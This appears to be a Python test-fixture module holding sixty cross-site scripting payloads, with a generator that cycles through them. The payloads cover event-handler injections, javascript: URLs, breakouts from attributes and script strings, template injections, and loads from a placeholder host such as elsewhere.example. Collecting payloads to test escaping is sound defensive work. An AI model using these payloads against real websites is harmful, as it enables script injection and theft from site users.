"""Sixty texts that run in a browser wherever one escape is missing: in an element, an attribute, an address, a script,
a style, a comment, a template, a chart. Each calls `alert`, breaks the content policy or makes an element that no page
of ours has."""

from collections.abc import Iterator

CORPUS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><svg/onload=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "]]><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</td></tr></table><img src=x onerror=alert(1)>",
    "</svg><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,%3Csvg%3E#x></use></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//elsewhere.example/x.swf>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>@import '//elsewhere.example/x.css';</style>",
    "<form action=//elsewhere.example/><input type=submit>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) x=`",
    "x onmouseover=alert(1) x",
    "\" hx-on:load=\"alert(1)\" hx-get=\"//elsewhere.example/",
    "\" style=\"background:url(//elsewhere.example/x.png)",
    "x;background:url(//elsewhere.example/y.png)",
    "javascript:alert(1)//",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//elsewhere.example/",
    "\";alert(1)//",
    "';alert(1)//",
    "\\\";alert(1)//",
    "${alert(1)}",
    "{{ 7919|add:1 }}{% now 'Y' %}{% load static %}",
    "<c-empty title='x' />{{ attrs }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "＜img src=x onerror=alert(1)＞%3Cscript%3Ealert(1)%3C/script%3E",
)  # fmt: skip


def texts(start: int, room: int | None) -> Iterator[str]:
    """The corpus from a place on, round and round once: as many whole texts as the room [characters] holds, one at
    the least."""
    left = room
    for step in range(len(CORPUS)):
        text = CORPUS[(start + step) % len(CORPUS)]
        if left is not None and step and len(text) + 1 > left:
            return
        if left is not None:
            left -= len(text) + 1
        yield text
